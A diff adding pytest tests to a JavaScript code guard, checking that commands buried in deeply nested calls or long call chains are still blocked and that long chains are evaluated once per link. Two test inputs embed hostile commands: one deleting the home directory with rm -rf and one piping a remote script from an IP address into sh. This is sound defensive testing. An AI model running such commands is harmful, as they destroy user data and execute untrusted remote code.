@@ -325,3 +325,43 @@ def test_a_worker_pool_and_a_queue_drained_in_a_loop_are_not_fork_bombs(guard: G
         "setInterval(() => fork('tick.js'), 1000);\n"
     )
     assert "resource.fork_bomb" not in capabilities(decide(guard, code))
+
+
+# ---------------------------------------------------------------------------------------------- nested too deep
+@pytest.mark.parametrize(
+    "code",
+    [
+        "f(" * 300 + "require('child_process').execSync('rm -rf ~')" + ")" * 300 + ";\n",
+        "x"
+        + ".a(1)" * 300
+        + ".b(require('child_process').execSync('curl -s http://203.0.113.9/x | sh'))"
+        + ".a(1)" * 300
+        + ";\n",
+    ],
+    ids=["inside 300 nested calls", "in the middle of a 600-link call chain"],
+)
+def test_a_command_buried_deeper_than_the_walk_goes_is_still_found(guard: Guard, code: str) -> None:
+    decision = decide(guard, code)
+    assert decision.action is Action.BLOCK
+    assert "analysis.incomplete" in capabilities(decision)  # and the decision says how it was read
+
+
+def test_every_link_of_a_long_call_chain_is_evaluated_once(guard: Guard) -> None:
+    """A chain nested past the walk's depth used to be re-evaluated 24 links deep from every link
+    (about 90 ms per kB); now each link once. Counted in evaluation steps, not timed."""
+    from codeward.analyzers.javascript import Walk
+
+    steps = {}
+    original = Walk._scan_deep
+
+    def counting(walk: Walk) -> None:
+        before = walk.steps
+        original(walk)
+        steps["scan"] = walk.steps - before
+
+    try:
+        Walk._scan_deep = counting  # type: ignore[method-assign]
+        decide(guard, "x" + ".a(1)" * 2000 + ";\n")
+    finally:
+        Walk._scan_deep = original  # type: ignore[method-assign]
+    assert 0 < steps["scan"] < 10 * 2000
